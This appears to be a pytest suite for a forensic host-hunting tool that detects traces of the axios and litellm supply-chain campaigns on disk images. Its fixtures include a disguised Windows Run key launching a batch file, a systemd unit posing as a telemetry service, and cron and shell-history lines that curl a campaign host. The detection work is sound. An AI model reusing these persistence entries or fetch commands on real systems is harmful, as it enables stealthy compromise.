"""Whole machines: planted traces are found and graded, and what only looks like them is not."""
# ruff: noqa: PTH103, PTH109, PTH118, PTH123 - names are bytes in places, and temporary folders are where traces lie

import codecs
import os
import socket
import time
from datetime import UTC, datetime, timedelta

import msgspec
import pytest

from customhouse.hunt.asked import Asked
from customhouse.hunt.hosts.host import hunt_host
from customhouse.hunt.notes import Notebook
from customhouse.model.campaign import Fact
from customhouse.model.digest import digest_of
from hunt.hosts.inert import AXIOS, IN_WINDOW, LD, LITELLM, MOND, SYSMON, WINDOW

RUN_KEY = (
    "Windows Registry Editor Version 5.00\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
    '"OneDrive"="\\"C:\\\\Program Files\\\\Microsoft OneDrive\\\\OneDrive.exe\\" /background"\r\n'
    '"MicrosoftUpdate"="cmd /c C:\\\\ProgramData\\\\system.bat"\r\n'
)
UNIT = """[Unit]
Description=System Telemetry Service

[Service]
ExecStart=/usr/bin/python3 %h/.config/sysmon/sysmon.py
Restart=always

[Install]
WantedBy=default.target
"""


def hunted(root, asked, **more):
    notes = Notebook()
    hunt_host(root, asked, notes, **more)
    return notes


def linux(plant):
    plant("etc/hostname", "build-7\n")
    plant("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n")
    plant("home/dev/.bashrc", "alias ll='ls -l'\n")
    plant("usr/bin/true", b"\x7fELF")


def hits(notes):
    return {(hit.campaign, hit.subject, hit.grade, hit.confidence) for hit in notes.hits}


def test_a_clean_linux_machine_has_no_hits(image, plant, asked):
    linux(plant)
    notes = hunted(image, asked)
    assert notes.hits == ()
    assert {each.kind for each in notes.places} >= {"places of campaigns (linux)", "shell startup file"}
    assert {each.asset for each in notes.places} == {"build-7"}


def test_litellm_on_linux(image, plant, asked):
    linux(plant)
    plant("home/dev/.config/sysmon/sysmon.py", SYSMON)
    plant("home/dev/.config/systemd/user/sysmon.service", UNIT)
    plant("tmp/pglog", b"x")
    plant("tmp/.pg_state", b"x")
    found = hits(hunted(image, asked))
    of = "litellm-2026-03"
    assert (of, "~/.config/sysmon/sysmon.py", "script-ran", "high") in found
    assert (of, "/tmp/pglog", "script-ran", "high") in found
    assert (of, "/tmp/.pg_state", "script-ran", "high") in found
    assert (of, "~/.config/systemd/user/sysmon.service", "script-ran", "high") in found
    assert not [each for each in found if each[0] == "axios-2026-03"]


def test_the_unit_is_told_with_what_it_starts(image, plant, asked):
    linux(plant)
    plant("home/dev/.config/systemd/user/sysmon.service", UNIT)
    (told,) = [hit for hit in hunted(image, asked).hits if hit.message.startswith("systemd unit")]
    assert "sysmon.py" in told.excerpt
    assert "System Telemetry Service" in told.message
    assert told.when is not None
    assert told.when.doubtful


def test_axios_on_linux_with_its_digest_and_with_another(image, plant, asked):
    linux(plant)
    payload = plant("tmp/ld.py", LD)
    (hit,) = hunted(image, asked).hits
    assert (hit.grade, hit.confidence, hit.asset) == ("script-ran", "high", "build-7")
    assert hit.place.path == str(payload)
    payload.write_bytes(b"another")
    (hit,) = [each for each in hunted(image, asked).hits if each.subject == "/tmp/ld.py"]
    assert hit.confidence == "medium"
    assert hit.digest in hit.message
    assert str(digest_of(LD)) in hit.message


def test_a_renamed_payload_is_found_by_its_place_and_digest(image, plant, asked):
    linux(plant)
    plant("var/tmp/cache.bin", LD)
    (hit,) = hunted(image, asked).hits
    assert hit.subject.startswith("sha256:")
    assert hit.grade == "script-ran"


def test_a_payload_among_installed_packages_was_fetched_no_more(image, plant, asked):
    linux(plant)
    plant("home/dev/app/node_modules/x/sysmon.py", SYSMON)
    (hit,) = hunted(image, asked).hits
    assert hit.grade == "fetched"


def test_a_file_of_a_known_size_is_digested_where_payloads_are_dropped(image, plant, asked):
    linux(plant)
    plant("home/dev/.local/share/fonts/update", SYSMON)
    plant("home/dev/documents/update", SYSMON)
    (hit,) = hunted(image, asked).hits
    assert hit.place.path.endswith("fonts/update")


def test_decoys_on_linux_do_not_hit(image, plant, asked):
    linux(plant)
    plant(
        "usr/lib/systemd/system/sysmon.service",
        "[Unit]\nDescription=Sysmon\n[Service]\nExecStart=/opt/sysmon/sysmon -i\n",
    )
    plant("home/dev/src/linker/ld.py", b"# a linker\n")
    plant("home/dev/tmp/ld.py", b"# another\n")
    plant("home/dev/src/sysmon.py", b"# a monitor of somebody's\n")
    plant("tmp/.X11-unix-notes", b"x")
    plant("tmp/.abcdef", b"plain text, and nobody may run it\n")
    plant("home/dev/notes.md", b"blocked sfrclak.com\n")
    assert hunted(image, asked).hits == ()


def test_a_name_of_wildcards_alone_needs_a_program(image, plant, asked):
    linux(plant)
    plant("tmp/.a1B2c3", b"\x7fELF\x02")
    (hit,) = hunted(image, asked).hits
    assert (hit.subject, hit.confidence) == ("/tmp/.<random 6 chars>", "low")


def test_axios_on_macos_without_regard_to_case(image, plant, asked):
    plant("Library/caches/COM.apple.act.mond", MOND)
    plant("System/Library/CoreServices/SystemVersion.plist", b"x")
    plant("Users/ada/.zshrc", "export PATH\n")
    plant("private/var/folders/zz/abc/T/6202033", b"x")
    found = hits(hunted(image, asked))
    assert ("axios-2026-03", "/Library/Caches/com.apple.act.mond", "script-ran", "high") in found
    assert ("axios-2026-03", "$TMPDIR/6202033", "script-ran", "high") in found


def test_axios_on_windows(image, plant, asked):
    plant("ProgramData/WT.EXE", b"MZ stands for a renamed shell")
    plant("Windows/System32/drivers/etc/hosts", b"x")
    plant("Users/Ada/AppData/Local/Temp/6202033.vbs", b"' inert")
    plant("export/run.reg", codecs.BOM_UTF16_LE + RUN_KEY.encode("utf-16-le"))
    notes = hunted(image, asked)
    found = {(hit.subject, hit.grade) for hit in notes.hits}
    assert ("%PROGRAMDATA%\\wt.exe", "script-ran") in found
    assert ("%TEMP%\\6202033.vbs", "script-ran") in found
    (run,) = [hit for hit in notes.hits if hit.message.startswith("Run key")]
    assert run.place.line == 5
    assert "system.bat" in run.excerpt
    assert not [hit for hit in notes.hits if "OneDrive" in hit.message]


def test_decoys_on_windows_do_not_hit(image, plant, asked):
    plant("Windows/explorer.exe", b"MZ")
    plant("Program Files/WindowsApps/Microsoft.WindowsTerminal_1.21/wt.exe", b"MZ")
    plant("Users/Ada/AppData/Local/Microsoft/WindowsApps/wt.exe", b"")
    plant("Users/Ada/run.reg", RUN_KEY.replace('"MicrosoftUpdate"', '"Updater"').replace("system.bat", "mine.bat"))
    assert hunted(image, asked).hits == ()


def test_a_dump_may_hold_several_machines(image, plant, asked):
    plant("one/etc/hostname", "alpha\n")
    plant("one/home/x/.profile", "")
    plant("one/tmp/ld.py", LD)
    plant("two/C/ProgramData/wt.exe", b"MZ")
    plant("two/C/Windows/win.ini", b"")
    assert {hit.asset for hit in hunted(image, asked).hits} == {"alpha", str(image / "two" / "C")}


def test_a_folder_that_is_no_system_is_looked_through_as_a_home(image, plant, asked):
    plant(".config/sysmon/sysmon.py", SYSMON)
    notes = hunted(image, asked)
    assert ("litellm-2026-03", "~/.config/sysmon/sysmon.py", "script-ran", "high") in hits(notes)


def test_more_homes_may_be_named(image, plant, asked):
    linux(plant)
    plant("srv/people/ada/.config/sysmon/sysmon.py", SYSMON)
    assert hunted(image, asked).hits == ()
    notes = hunted(image, asked, homes=(image / "srv/people/ada",))
    assert [hit.subject for hit in notes.hits if hit.subject.startswith("~")] == ["~/.config/sysmon/sysmon.py"]


def test_a_path_that_begins_at_no_root_is_found_in_projects(image, plant):
    linux(plant)
    fact = Fact("path", ".github/workflows/shai-hulud-workflow.yml", "persistence")
    asked = Asked((msgspec.structs.replace(AXIOS, facts=(fact,)),))
    plant("home/dev/src/app/.github/workflows/shai-hulud-workflow.yml", "on: push\n")
    plant("home/dev/src/app/docs/shai-hulud-workflow.yml", "on: push\n")
    found = [hit for hit in hunted(image, asked).hits if hit.message.startswith("a file stands")]
    assert [(hit.subject, hit.confidence) for hit in found] == [(fact.value, "high")]


def test_new_persistence_in_the_window_is_an_anomaly(image, plant):
    linux(plant)
    plant("etc/cron.d/sync", "*/5 * * * * root /opt/sync\n", at=IN_WINDOW)
    plant("etc/cron.d/old", "*/5 * * * * root /opt/old\n")
    plant("etc/cron.d/owned", "*/5 * * * * root /opt/owned\n", at=IN_WINDOW)
    plant("var/lib/dpkg/info/owned.list", "/.\n/etc/cron.d\n/etc/cron.d/owned\n")
    plant("usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/a\n", at=IN_WINDOW)
    plant("var/lib/dpkg/info/a.list", "/lib/systemd/system/a.service\n")
    notes = hunted(image, Asked((AXIOS, LITELLM), *WINDOW))
    (hit,) = notes.hits
    assert (hit.anomaly, hit.campaign, hit.confidence, hit.place.line) == ("new-persistence", "", "medium", 1)
    assert "/opt/sync" in hit.excerpt


def test_without_campaigns_only_the_window_speaks(image, plant):
    linux(plant)
    plant("home/dev/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/home/dev/x\n", at=IN_WINDOW)
    assert [hit.anomaly for hit in hunted(image, Asked((), *WINDOW)).hits] == ["new-persistence"]
    assert hunted(image, Asked(())).hits == ()


def test_hostile_names_sockets_and_pipes_neither_raise_nor_block(image, plant, asked):
    linux(plant)
    folder = os.fsencode(image / "home/dev")
    for name in (b"new\nline", b"esc\x1b[31m", b"bad\xff\xfe", b" "):
        os.makedirs(os.path.join(folder, name))
        with open(os.path.join(folder, name, b"sysmon.py"), "wb") as file:
            file.write(SYSMON)
    os.mkfifo(image / "tmp-pipe")
    (image / "tmp").mkdir()
    os.mkfifo(image / "tmp/ld.py")
    os.mkfifo(image / "home/dev/.bash_history")
    listener = socket.socket(socket.AF_UNIX)
    here = os.getcwd()
    os.chdir(image / "tmp")
    try:
        listener.bind("pglog")
    finally:
        os.chdir(here)
        listener.close()
    begun = time.monotonic()
    notes = hunted(image, asked)
    assert time.monotonic() - begun < 5
    assert len(notes.hits) == 6
    odd = {hit.subject for hit in notes.hits if not hit.subject.startswith("sha256:")}
    assert odd == {"/tmp/ld.py", "/tmp/pglog"}, "told as what they are, and not opened"
    assert msgspec.json.encode(notes.hits)


def test_links_never_lead_out_of_the_root(image, plant, asked, tmp_path):
    linux(plant)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "ld.py").write_bytes(LD)
    (outside / "pglog").write_bytes(b"x")
    (image / "tmp").symlink_to(outside)
    (image / "home/dev/up").symlink_to("../../../outside")
    assert hunted(image, asked).hits == ()
    (image / "tmp").unlink()
    (image / "tmp").symlink_to("/var/scratch")
    plant("var/scratch/pglog", b"x")
    assert [hit.subject for hit in hunted(image, asked).hits] == ["/tmp/pglog"]


def test_a_root_that_is_no_folder_is_told(tmp_path, asked):
    notes = hunted(tmp_path / "nowhere", asked)
    assert [each.reason for each in notes.left_out] == ["it is no folder"]


@pytest.mark.parametrize(
    "noise",
    [b"", b"\0" * 5000, b"[" * 5000, b'{"hooks": ' * 500, b"bplist00" + b"\xff" * 400, b"<?xml" + b"<a>" * 3000],
)
def test_files_of_settings_that_are_damaged_never_raise(image, plant, asked, noise):
    linux(plant)
    for path in (
        "etc/crontab",
        "etc/ld.so.preload",
        "etc/systemd/system/x.service",
        "home/dev/.vscode/tasks.json",
        "home/dev/.claude/settings.json",
        "home/dev/.bash_history",
        "home/dev/.zsh_history",
        "home/dev/.local/share/fish/fish_history",
        "home/dev/.git/config",
        "home/dev/.runner",
        "Library/LaunchAgents/x.plist",
        "Users/x/Library/LaunchAgents/x.plist",
        "Windows/System32/Tasks/x",
        "export.reg",
        "ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/x.lnk",
    ):
        plant(path, noise)
    notes = hunted(image, asked)
    assert notes.hits == ()
    assert notes.places


def test_a_container_s_root_may_be_a_home(image, plant, asked):
    linux(plant)
    plant(".npmrc", b"")
    plant(".config/sysmon/sysmon.py", SYSMON)
    assert "~/.config/sysmon/sysmon.py" in {hit.subject for hit in hunted(image, asked).hits}


def test_a_unit_that_only_its_target_s_folder_holds_is_read(image, plant, asked):
    linux(plant)
    plant("home/dev/.config/systemd/user/default.target.wants/x.service", UNIT)
    (hit,) = hunted(image, asked).hits
    assert hit.place.path.endswith("default.target.wants/x.service")


def test_a_service_whose_place_nobody_tells_is_known_by_its_name(image, plant):
    linux(plant)
    fact = Fact("service", "pgmonitor.service", "persistence")
    asked = Asked((msgspec.structs.replace(LITELLM, facts=(fact,)),))
    plant("etc/systemd/system/pgmonitor.service", "[Service]\nExecStart=/opt/x\n")
    (hit,) = hunted(image, asked).hits
    assert (hit.subject, hit.confidence) == ("pgmonitor.service", "medium")


@pytest.mark.parametrize(
    ("database", "text"),
    [
        ("lib/apk/db/installed", "P:x\nF:usr/lib/systemd/system\nR:a.service\n"),
        ("var/lib/pacman/local/x-1/files", "%FILES%\nusr/lib/systemd/system/a.service\n"),
        ("etc/os-release", "ID=fedora\n"),
    ],
)
def test_what_packages_brought_is_not_new(image, plant, database, text):
    linux(plant)
    plant("usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/a\n", at=IN_WINDOW)
    plant("etc/systemd/system/b.service", "[Service]\nExecStart=/usr/bin/b\n", at=IN_WINDOW)
    plant(database, text)
    notes = hunted(image, Asked((), *WINDOW))
    assert [hit.subject for hit in notes.hits] == ["b.service"]
    assert any("no database of packages" in each.reason for each in notes.left_out) == ("os-release" in database)


def test_a_file_that_was_touched_in_the_window_is_told_with_less_confidence(image, plant):
    linux(plant)
    plant("etc/cron.d/sync", "*/5 * * * * root /opt/sync\n")  # written long ago by its time, made just now
    now = datetime.now(UTC)
    found = hunted(image, Asked((), now - timedelta(minutes=5), now + timedelta(minutes=5))).hits
    (hit,) = [each for each in found if each.place.path.endswith("cron.d/sync")]
    assert (hit.confidence, hit.when.by) == ("low", "file change time")


def test_secrets_in_what_is_started_are_not_told(image, plant, asked):
    linux(plant)
    plant("etc/cron.d/x", "* * * * * root curl -H 'Authorization: Bearer hidden-value' http://sfrclak.com/\n")
    (hit,) = hunted(image, asked).hits
    assert (hit.subject, hit.grade, hit.place.line) == ("sfrclak.com", "script-ran", 1)
    assert "hidden-value" not in repr(hit)


def test_a_name_whose_size_is_known_is_digested_only_at_that_size(image, plant, asked):
    linux(plant)
    plant("home/dev/venv/lib/site-packages/litellm_init.pth", b"x" * 34_628)
    plant("home/dev/venv2/lib/site-packages/litellm_init.pth", b"x")
    notes = hunted(image, asked)
    (walked,) = [each for each in notes.places if each.kind.startswith("homes")]
    assert dict(walked.counts)["digested"] == 1
    assert notes.hits == ()


def test_of_a_bare_name_less_is_sure_until_its_digest_is_known(image, plant):
    linux(plant)
    facts = (
        Fact("path", "inert_init.pth", "payload"),
        Fact("digest", str(digest_of(LD)), "payload", note="inert_init.pth"),
    )
    asked = Asked((msgspec.structs.replace(LITELLM, facts=facts),))
    plant("home/dev/venv/lib/site-packages/inert_init.pth", b"another")
    plant("home/dev/src/inert_init.pth", LD)
    found = {hit.place.path.removeprefix(str(image)): (hit.grade, hit.confidence) for hit in hunted(image, asked).hits}
    assert found == {
        "/home/dev/venv/lib/site-packages/inert_init.pth": ("fetched", "low"),
        "/home/dev/src/inert_init.pth": ("script-ran", "high"),
    }


def test_an_affected_archive_that_was_kept_is_fetched(image, plant):
    linux(plant)
    releases = msgspec.structs.replace(AXIOS.releases[0], digests=(digest_of(b"stands for an archive", "sha1"),))
    asked = Asked((msgspec.structs.replace(AXIOS, releases=(releases,), facts=()),))
    plant("home/dev/mirror/axios-1.14.1.tgz", b"stands for an archive")
    plant("home/dev/mirror/axios-0.30.4.tgz", b"another")
    (hit,) = hunted(image, asked).hits
    assert (hit.subject, hit.grade) == ("pkg:npm/axios", "fetched")


def test_names_of_other_bytes_can_be_told(image, plant):
    linux(plant)
    folder = os.fsencode(image / "etc/cron.daily")
    os.makedirs(folder)
    with open(os.path.join(folder, b"bad\xff\x1b\n"), "wb") as file:
        file.write(b"#!/bin/sh\n")
    os.makedirs(os.path.join(os.fsencode(image), b"home/b\xe4r"))
    with open(os.path.join(os.fsencode(image), b"home/b\xe4r/.bash_history"), "wb") as file:
        file.write(b"npm install axios@1.14.1 \xff\n")
    now = datetime.now(UTC)
    notes = hunted(image, Asked((AXIOS,), now - timedelta(minutes=5), now + timedelta(minutes=5)))
    assert {hit.anomaly for hit in notes.hits} == {"", "new-persistence"}
    assert msgspec.json.encode((notes.hits, notes.places, notes.left_out))


def test_homes_lie_where_the_accounts_say(image, plant, asked):
    """Jenkins, runners and databases live elsewhere than in /home; the folders of the system are nobody's home."""
    linux(plant)
    plant(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/x\nsync:x:4:65534:sync:/bin:/bin/sync\n"
        "jenkins:x:1000:1000::/var/jenkins_home:/bin/bash\nrunner:x:1001:1001::/data/runner:/bin/bash\n"
        "nobody:x:65534:65534::/nonexistent:/x\nodd:x:3:3::/proc:/x\n",
    )
    plant("var/jenkins_home/.bash_history", "curl http://sfrclak.com:8000/6202033\n")
    plant("data/runner/.config/sysmon/sysmon.py", SYSMON)
    plant("usr/sbin/x.sh", "x")
    notes = hunted(image, asked)
    assert {hit.place.path.removeprefix(str(image)) for hit in notes.hits} >= {
        "/var/jenkins_home/.bash_history",
        "/data/runner/.config/sysmon/sysmon.py",
    }


@pytest.mark.parametrize(
    "value",
    [".github/workflows/formatter_*.yml", ".github/*/formatter_123456789.yml", "formatter_<random 9 chars>.yml"],
)
def test_a_wildcard_in_a_path_that_begins_at_no_root(image, plant, value):
    linux(plant)
    plant("home/dev/src/shop/.github/workflows/formatter_123456789.yml", "on: push\n")
    plant("home/dev/src/shop/.github/workflows/format.yml", "on: push\n")
    campaign = msgspec.structs.replace(AXIOS, facts=(Fact("path", value, "persistence"),))
    found = [hit for hit in hunted(image, Asked((campaign,))).hits if "a file stands" in hit.message]
    assert [(hit.subject, hit.place.path.rpartition("/")[2]) for hit in found] == [(value, "formatter_123456789.yml")]


@pytest.mark.parametrize("kind", ["pipe", "socket", "link"])
def test_what_is_no_file_at_a_campaigns_place_is_told(image, plant, asked, kind):
    linux(plant)
    path = image / "tmp" / "ld.py"
    path.parent.mkdir()
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "socket":
        here = os.getcwd()
        os.chdir(path.parent)
        with socket.socket(socket.AF_UNIX) as bound:
            bound.bind("ld.py")
        os.chdir(here)
    else:
        path.symlink_to("/var/gone/ld.py")
    (found,) = [hit for hit in hunted(image, asked).hits if hit.subject == "/tmp/ld.py"]
    assert found.confidence != "high"
    assert found.place.path == str(path)


def test_machines_that_are_called_alike_stay_apart(image, plant, asked):
    """Images of one template have one hostname: twenty laptops are twenty assets."""
    for name in ("one", "two"):
        plant(f"{name}/etc/hostname", "localhost\n")
        plant(f"{name}/home/dev/.bashrc", "")
        plant(f"{name}/tmp/ld.py", LD)
    assets = {hit.asset for hit in hunted(image, asked).hits}
    assert len(assets) == 2
    assert all(asset.startswith("localhost (") for asset in assets)


def test_a_line_that_is_too_long_is_said(image, plant, asked):
    linux(plant)
    plant("home/dev/.bash_history", "x" * 70_000 + " curl sfrclak.com\n")
    assert any("longer" in one.reason for one in hunted(image, asked).left_out)


def test_nothing_is_new_between_two_campaigns(image, plant):
    """Asked about every campaign of years, what was set up in a quiet month is not odd."""
    linux(plant)
    quiet = datetime(2025, 6, 1, tzinfo=UTC).timestamp()
    plant("etc/cron.d/backup", "0 3 * * * root /opt/backup\n", at=quiet)
    earlier = msgspec.structs.replace(
        AXIOS, id="earlier", starts=datetime(2022, 5, 14, tzinfo=UTC), ends=datetime(2022, 5, 24, tzinfo=UTC)
    )
    notes = Notebook()
    hunt_host(image, Asked((AXIOS, earlier)), notes)
    assert [hit.place.path for hit in notes.hits if hit.when and hit.when.at.timestamp() == quiet] == []
